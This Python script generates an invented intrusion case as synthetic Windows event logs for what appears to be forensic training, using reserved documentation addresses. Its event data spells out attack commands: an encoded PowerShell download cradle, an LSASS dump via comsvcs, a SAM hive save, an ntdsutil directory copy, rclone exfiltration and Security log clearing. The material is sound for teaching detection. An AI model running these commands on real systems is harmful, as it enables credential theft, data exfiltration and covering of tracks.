#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes the demonstration case content/demo/case: one invented intrusion, told once below, in three shapes of evidence.

    tools/make_demo.py [--out content/demo/case]

ws-07 arrives as Winlogbeat lines, fs1 as flat JSON lines of a log collector, dc1 as an EVTX file. Nothing in it can harm:
the addresses and names are reserved for documentation, the "programs" exist only as names. The same program gives the same
bytes. Needs Python 3.9 and nothing else.
"""

import argparse
import base64
import datetime
import json
import pathlib

import evtx_writer

WS, DC, FS = "ws-07.example.test", "dc1.example.test", "fs1.example.test"
WS_IP, DC_IP, FS_IP, PROXY_IP = "192.0.2.17", "192.0.2.10", "192.0.2.20", "192.0.2.80"
LURE_IP, STORE_IP = "198.51.100.23", "203.0.113.66"

SYSMON, POWERSHELL = "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-PowerShell/Operational"
# channel -> provider and its GUID
PROVIDERS = {
    SYSMON: ("Microsoft-Windows-Sysmon", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"),
    POWERSHELL: ("Microsoft-Windows-PowerShell", "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}"),
    "Security": ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}"),
    "System": ("Service Control Manager", "{555908D1-A6D7-4695-8E1E-26931D2012F4}"),
}
EVENT_LOG = ("Microsoft-Windows-Eventlog", "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}")

DOMAIN_SID = "S-1-5-21-1000000001-1000000002-1000000003"
SIDS = {"anna": f"{DOMAIN_SID}-1105", "svc_backup": f"{DOMAIN_SID}-1131", "svc_sql": f"{DOMAIN_SID}-1132",
        "svc_print": f"{DOMAIN_SID}-1133", "svc_web": f"{DOMAIN_SID}-1134", "DC1$": "S-1-5-18", "FS1$": f"{DOMAIN_SID}-1104",
        "WS-07$": f"{DOMAIN_SID}-1107", "SYSTEM": "S-1-5-18"}
LOGON_IDS = {"anna": "0x3e7a1", "svc_backup": "0x7c11f0", "SYSTEM": "0x3e7", "DC1$": "0x3e7", "FS1$": "0x4d210",
             "WS-07$": "0x4c9b2"}
SYSTEM32 = "C:\\Windows\\System32\\"
SHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
ROAMING = "C:\\Users\\anna\\AppData\\Roaming\\"
IMPLANT = ROAMING + "msup\\msup.exe"
DROPPED = "C:\\Windows\\RwPmLfKz.exe"

# The fields of the Security log that EVTX holds in a type of their own; all others are texts.
EVTX_TYPES = {"LogonType": evtx_writer.U32, "KeyLength": evtx_writer.U32}
EVTX_TYPES.update(dict.fromkeys(["SubjectUserSid", "TargetUserSid", "TargetSid", "ServiceSid", "UserSid"], evtx_writer.SID))
EVTX_TYPES.update(dict.fromkeys(["SubjectLogonId", "TargetLogonId", "ProcessId", "NewProcessId"], evtx_writer.HEX64))
EVTX_TYPES.update(dict.fromkeys(["TicketOptions", "TicketEncryptionType", "Status", "AccessMask"], evtx_writer.HEX32))
EVTX_TYPES.update(dict.fromkeys(["LogonGuid"], evtx_writer.GUID))

NO_GUID = "{00000000-0000-0000-0000-000000000000}"
REPLICATE = "%%7688\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\n"


def account(user):
    return f"NT AUTHORITY\\{user}" if user == "SYSTEM" else f"EXAMPLE\\{user}"


# ------------------------------------------------------------------------------------- kinds of events: (channel, id, data)

def process(image, command, parent, user="anna", original=None, description="-"):
    name = image.rsplit("\\", 1)[1]
    return SYSMON, 1, {
        "RuleName": "-", "Image": image, "FileVersion": "10.0.19041.1", "Description": description,
        "OriginalFileName": original or name, "CommandLine": command, "CurrentDirectory": SYSTEM32, "User": account(user),
        "LogonId": LOGON_IDS[user], "TerminalSessionId": "0" if user == "SYSTEM" else "1", "ParentImage": parent,
        "ParentCommandLine": f'"{parent}"', "ParentUser": account(user)}


def connection(image, source, target, port, user="anna", host="-"):
    return SYSMON, 3, {
        "RuleName": "-", "Image": image, "User": account(user), "Protocol": "tcp", "Initiated": "true",
        "SourceIsIpv6": "false", "SourceIp": source, "SourcePort": str(49700 + port % 97), "DestinationIsIpv6": "false",
        "DestinationIp": target, "DestinationHostname": host, "DestinationPort": str(port)}


def file_written(image, target, user="anna"):
    return SYSMON, 11, {"RuleName": "-", "Image": image, "TargetFilename": target, "User": account(user)}


def value_set(image, key, details, user="anna"):
    return SYSMON, 13, {"RuleName": "-", "EventType": "SetValue", "Image": image, "TargetObject": key, "Details": details,
                        "User": account(user)}


def script(text, path=""):
    return POWERSHELL, 4104, {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text,
                              "ScriptBlockId": "6f1d2a44-0000-4000-8000-000000000001", "Path": path}


def logon(user, address, kind=3, package="Kerberos", outbound="-", workstation="-"):
    by_system = kind in (2, 7, 9)
    return "Security", 4624, {
        "SubjectUserSid": "S-1-5-18" if by_system else "S-1-0-0", "SubjectUserName": "SYSTEM" if by_system else "-",
        "SubjectDomainName": "NT AUTHORITY" if by_system else "-", "SubjectLogonId": "0x3e7" if by_system else "0x0",
        "TargetUserSid": SIDS[user], "TargetUserName": user, "TargetDomainName": "EXAMPLE", "TargetLogonId": LOGON_IDS[user],
        "LogonType": str(kind), "LogonProcessName": {9: "seclogo", 2: "User32 ", 7: "User32 "}.get(kind, package),
        "AuthenticationPackageName": package, "WorkstationName": workstation, "LogonGuid": NO_GUID,
        "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0", "ProcessId": "0x0",
        "ProcessName": SYSTEM32 + "svchost.exe" if by_system else "-", "IpAddress": address, "IpPort": "0",
        "ImpersonationLevel": "%%1833", "TargetOutboundUserName": outbound,
        "TargetOutboundDomainName": "-" if outbound == "-" else "EXAMPLE"}


def logoff(user, kind=3):
    return "Security", 4634, {"TargetUserSid": SIDS[user], "TargetUserName": user, "TargetDomainName": "EXAMPLE",
                              "TargetLogonId": LOGON_IDS[user], "LogonType": str(kind)}


def privileges(user):
    return "Security", 4672, {"SubjectUserSid": SIDS[user], "SubjectUserName": user, "SubjectDomainName": "EXAMPLE",
                              "SubjectLogonId": LOGON_IDS[user],
                              "PrivilegeList": "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege"}


def first_ticket(user, address):
    return "Security", 4768, {
        "TargetUserName": user, "TargetDomainName": "EXAMPLE", "TargetSid": SIDS[user], "ServiceName": "krbtgt",
        "ServiceSid": f"{DOMAIN_SID}-502", "TicketOptions": "0x40810010", "Status": "0x0", "TicketEncryptionType": "0x12",
        "PreAuthType": "2", "IpAddress": f"::ffff:{address}", "IpPort": "49811", "CertIssuerName": "",
        "CertSerialNumber": "", "CertThumbprint": ""}


def service_ticket(user, service, address, encryption="0x12"):
    return "Security", 4769, {
        "TargetUserName": f"{user}@EXAMPLE.TEST", "TargetDomainName": "EXAMPLE.TEST", "ServiceName": service,
        "ServiceSid": SIDS[service], "TicketOptions": "0x40810000", "TicketEncryptionType": encryption,
        "IpAddress": f"::ffff:{address}", "IpPort": "49812", "Status": "0x0", "LogonGuid": NO_GUID,
        "TransmittedServices": "-"}


def object_used(user, server, kind, name, mask, properties):
    return "Security", 4662, {
        "SubjectUserSid": SIDS[user], "SubjectUserName": user, "SubjectDomainName": "EXAMPLE",
        "SubjectLogonId": LOGON_IDS[user], "ObjectServer": server, "ObjectType": kind, "ObjectName": name,
        "OperationType": "Object Access", "HandleId": "0x0", "AccessList": "%%7688", "AccessMask": mask,
        "Properties": properties, "AdditionalInfo": "-", "AdditionalInfo2": ""}


def replication(user):
    return object_used(user, "DS", "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}", "%{2b0f6f3e-0000-4000-8000-000000000001}",
                       "0x100", REPLICATE)


def audited_process(user, image, command, parent):
    return "Security", 4688, {
        "SubjectUserSid": SIDS[user], "SubjectUserName": user, "SubjectDomainName": "EXAMPLE",
        "SubjectLogonId": LOGON_IDS[user], "NewProcessId": "0x1a2c", "NewProcessName": image,
        "TokenElevationType": "%%1936", "ProcessId": "0x8f4", "CommandLine": command, "TargetUserSid": "S-1-0-0",
        "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0", "ParentProcessName": parent,
        "MandatoryLabel": "S-1-16-12288"}


def share_file(user, share, name, address=WS_IP):
    return "Security", 5145, {
        "SubjectUserSid": SIDS[user], "SubjectUserName": user, "SubjectDomainName": "EXAMPLE",
        "SubjectLogonId": LOGON_IDS[user], "ObjectType": "File", "IpAddress": address, "IpPort": "49930",
        "ShareName": f"\\\\*\\{share}", "ShareLocalPath": "", "RelativeTargetName": name, "AccessMask": "0x12019f"}


def service_installed(name, path, start="demand start"):
    return "System", 7045, {"ServiceName": name, "ImagePath": path, "ServiceType": "user mode service", "StartType": start,
                            "AccountName": "LocalSystem"}


def log_cleared(user):
    return "Security", 1102, {"SubjectUserSid": SIDS[user], "SubjectUserName": user, "SubjectDomainName": "EXAMPLE",
                              "SubjectLogonId": LOGON_IDS[user]}


# -------------------------------------------------------------------------------------------------------------- the story

STAGE_TEXT = f"IEX (New-Object Net.WebClient).DownloadString('http://{LURE_IP}/notes.txt')"
STAGE_COMMAND = "powershell.exe -NoP -W Hidden -enc " + base64.b64encode(STAGE_TEXT.encode("utf-16-le")).decode()
USER_KEY = f"HKU\\{SIDS['anna']}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\"
CMD, SERVICES, EXPLORER = SYSTEM32 + "cmd.exe", SYSTEM32 + "services.exe", "C:\\Windows\\explorer.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
LETTER = "C:\\Users\\anna\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7X2\\Invoice_4471.docm"
RAR = "C:\\ProgramData\\r.exe"
COPIER = "C:\\ProgramData\\sync\\rclone.exe"


def discovery(*commands):
    return [(f"08:19:{6 * i:02}", WS,
             process(SYSTEM32 + command.split()[0] + ".exe", command, CMD)) for i, command in enumerate(commands)]


# (time of 10 March 2026 UTC, host, event)
STORY = [
    # A working morning.
    ("07:30:00", DC, logon("DC1$", "-")),
    ("07:30:05", DC, replication("DC1$")),
    ("07:55:10", WS, process(SYSTEM32 + "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", SERVICES, "SYSTEM")),
    ("07:58:01", DC, first_ticket("anna", WS_IP)),
    ("07:58:02", DC, service_ticket("anna", "WS-07$", WS_IP)),
    ("07:58:03", WS, logon("anna", "127.0.0.1", 2, "Negotiate", workstation="WS-07")),
    ("07:58:40", WS, process(OFFICE + "OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE"', EXPLORER)),
    ("07:59:12", WS, connection(EDGE, WS_IP, PROXY_IP, 8080, host="proxy.example.test")),
    ("08:00:00", FS, process(SYSTEM32 + "wbadmin.exe", "wbadmin start backup -backupTarget:E: -include:D: -quiet", CMD,
                             "SYSTEM")),
    ("08:02:20", DC, service_ticket("anna", "FS1$", WS_IP)),
    ("08:02:21", FS, logon("anna", WS_IP)),
    ("08:02:22", FS, share_file("anna", "finance", "2026\\plan.xlsx")),
    ("08:05:00", WS, script("Get-CimInstance Win32_LogicalDisk | Select-Object DeviceID, FreeSpace",
                            "C:\\Program Files\\Inventory\\disks.ps1")),
    ("08:09:30", WS, value_set(EXPLORER, USER_KEY + "Explorer\\Advanced\\TaskbarMn", "DWORD (0x00000000)")),
    # The letter: a document whose macro starts a hidden shell.
    ("08:14:02", WS, file_written(OFFICE + "OUTLOOK.EXE", LETTER)),
    ("08:14:05", WS, process(OFFICE + "WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" /n "{LETTER}"', OFFICE + "OUTLOOK.EXE")),
    ("08:14:31", WS, process(SHELL, STAGE_COMMAND, OFFICE + "WINWORD.EXE", original="PowerShell.EXE")),
    ("08:14:33", WS, script(STAGE_TEXT)),
    ("08:14:34", WS, connection(SHELL, WS_IP, LURE_IP, 80)),
    ("08:14:40", WS, script("Set-PSReadLineOption -HistorySaveStyle SaveNothing")),
    # Foothold on the workstation, then a look around.
    ("08:15:10", WS, file_written(SHELL, IMPLANT)),
    ("08:15:12", WS, value_set(SHELL, USER_KEY + "Run\\MsUpdate", f'wscript.exe //b "{ROAMING}msup\\start.js"')),
    ("08:15:15", WS, process(IMPLANT, IMPLANT, SHELL)),
    ("08:15:20", WS, connection(IMPLANT, WS_IP, STORE_IP, 443)),
    *discovery("whoami /all", "systeminfo", "ipconfig /all", "netstat -ano", "tasklist /v", "nltest /dclist:example.test",
               'net group "Domain Admins" /domain'),
    # Credentials: tickets of service accounts to guess their passwords from, and what the workstation keeps.
    ("08:24:01", WS, connection(IMPLANT, WS_IP, DC_IP, 88, host=DC)),
    ("08:24:02", DC, service_ticket("anna", "svc_sql", WS_IP, "0x17")),
    ("08:24:03", DC, service_ticket("anna", "svc_print", WS_IP, "0x17")),
    ("08:24:03", DC, service_ticket("anna", "svc_web", WS_IP, "0x17")),
    ("08:24:04", DC, service_ticket("anna", "svc_backup", WS_IP, "0x17")),
    ("08:26:10", WS, process(SYSTEM32 + "reg.exe", "reg save hklm\\sam C:\\Windows\\Temp\\s.sav", CMD)),
    ("08:27:00", WS, process(SYSTEM32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 "
                             "C:\\Windows\\Temp\\lsass_0412.dmp full", CMD, original="RUNDLL32.EXE")),
    ("08:27:02", WS, file_written(SYSTEM32 + "rundll32.exe", "C:\\Windows\\Temp\\lsass_0412.dmp")),
    ("08:31:00", FS, share_file("anna", "finance", "2026\\plan.xlsx")),
    ("08:40:00", DC, logon("FS1$", FS_IP)),
    ("08:40:30", DC, logoff("FS1$")),
    ("08:45:00", DC, audited_process("DC1$", SYSTEM32 + "dfsrdiag.exe", "dfsrdiag pollad", SYSTEM32 + "svchost.exe")),
    # With a guessed password: the directory is copied.
    ("09:05:00", WS, logon("anna", "::1", 9, "Negotiate", outbound="svc_backup")),
    ("09:05:03", DC, first_ticket("svc_backup", WS_IP)),
    ("09:05:05", DC, logon("svc_backup", WS_IP)),
    ("09:05:05", DC, privileges("svc_backup")),
    ("09:05:09", DC, replication("svc_backup")),
    ("09:05:10", DC, replication("svc_backup")),
    ("09:06:30", DC, object_used("svc_backup", "LSA", "SecretObject", "Policy\\Secrets\\G$BCKUPKEY_PREFERRED", "0x2", "-")),
    ("09:07:00", DC, audited_process("svc_backup", SYSTEM32 + "ntdsutil.exe",
                                     'ntdsutil "ac i ntds" "ifm" "create full c:\\programdata\\m" q q',
                                     SYSTEM32 + "wbem\\WmiPrvSE.exe")),
    ("09:09:00", DC, logoff("svc_backup")),
    # Lateral movement to the file server and a foothold there.
    ("09:12:00", DC, service_ticket("svc_backup", "FS1$", WS_IP)),
    ("09:12:01", FS, logon("svc_backup", WS_IP)),
    ("09:12:03", FS, share_file("svc_backup", "ADMIN$", "RwPmLfKz.exe")),
    ("09:12:04", FS, service_installed("kTbQ", "%systemroot%\\RwPmLfKz.exe")),
    ("09:12:05", FS, process(DROPPED, DROPPED, SERVICES, "SYSTEM")),
    ("09:12:30", FS, share_file("svc_backup", "ADMIN$", "__1773133950.12")),
    ("09:14:00", FS, service_installed("NetHelper", "C:\\Users\\Public\\Libraries\\nethelp.exe", "auto start")),
    # Collection and exfiltration.
    ("09:20:00", FS, process(RAR, "r.exe a -r -hpExample1 -v200m C:\\$Recycle.Bin\\d.rar D:\\shares\\finance\\*.xlsx", CMD,
                             "svc_backup", original="Rar.exe", description="Command line RAR")),
    ("09:20:40", FS, file_written(RAR, "C:\\$Recycle.Bin\\d.part01.rar", "svc_backup")),
    ("09:24:00", FS, file_written(COPIER, "C:\\Users\\svc_backup\\AppData\\Roaming\\rclone\\rclone.conf", "svc_backup")),
    ("09:24:30", FS, process(COPIER, "rclone.exe copy C:\\$Recycle.Bin store1:data -q --ignore-existing --transfers 10", CMD,
                             "svc_backup")),
    ("09:24:32", FS, connection(COPIER, FS_IP, STORE_IP, 443, "svc_backup")),
    # Traces are removed; the collector has them already.
    ("09:31:00", FS, process(SYSTEM32 + "wevtutil.exe", "wevtutil cl Security", CMD, "svc_backup")),
    ("09:31:01", FS, log_cleared("svc_backup")),
    ("09:35:00", FS, share_file("anna", "finance", "2026\\plan.xlsx")),
]


# ------------------------------------------------------------------------------------------------------------- the shapes

def provider_of(channel, event_id):
    return EVENT_LOG if event_id == 1102 else PROVIDERS[channel]


def moment(clock):
    return datetime.datetime.fromisoformat(f"2026-03-10T{clock}+00:00")


def numbered(host, first_id):
    """(record id, moment, channel, event id, data) of a host, in order; each channel counts for itself."""
    counts = {}
    for clock, where, (channel, event_id, data) in STORY:
        if where != host:
            continue
        counts[channel] = counts.get(channel, first_id - 1) + 1
        yield counts[channel], moment(clock), channel, event_id, data


def winlogbeat_lines(host):
    for record_id, time, channel, event_id, data in numbered(host, 5001):
        provider, guid = provider_of(channel, event_id)
        yield {"@timestamp": time.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
               "winlog": {"channel": channel, "provider_name": provider, "provider_guid": guid, "event_id": str(event_id),
                          "computer_name": host, "record_id": record_id, "api": "wineventlog", "event_data": data},
               "event": {"code": str(event_id), "kind": "event", "provider": provider},
               "host": {"name": host}, "agent": {"type": "winlogbeat", "version": "8.17.0"}, "ecs": {"version": "8.0.0"}}


def flat_lines(host):
    for record_id, time, channel, event_id, data in numbered(host, 88001):
        provider, guid = provider_of(channel, event_id)
        yield {"Channel": channel, "EventID": event_id, "SourceName": provider, "ProviderGuid": guid, "Hostname": host,
               "EventRecordID": record_id, "TimeCreated": time.strftime("%Y-%m-%dT%H:%M:%S.000Z"), **data}


def evtx_records(host):
    for record_id, time, channel, event_id, data in numbered(host, 412001):
        provider, guid = provider_of(channel, event_id)
        fields = [(name, EVTX_TYPES.get(name, evtx_writer.STRING), text) for name, text in data.items()]
        yield evtx_writer.Record(record_id, int(time.timestamp()) * 1_000_000_000, provider, guid, event_id, channel, host,
                                 fields)


def write_lines(path, lines):
    path.write_text("".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines), encoding="utf-8", newline="\n")


def main():
    root = pathlib.Path(__file__).resolve().parent.parent
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=pathlib.Path, default=root / "content/demo/case")
    out = parser.parse_args().out
    out.mkdir(parents=True, exist_ok=True)
    write_lines(out / "ws-07-winlogbeat.ndjson", winlogbeat_lines(WS))
    write_lines(out / "fs1-flat.json", flat_lines(FS))
    evtx_writer.write_evtx(out / "dc1-Security.evtx", list(evtx_records(DC)))


if __name__ == "__main__":
    main()
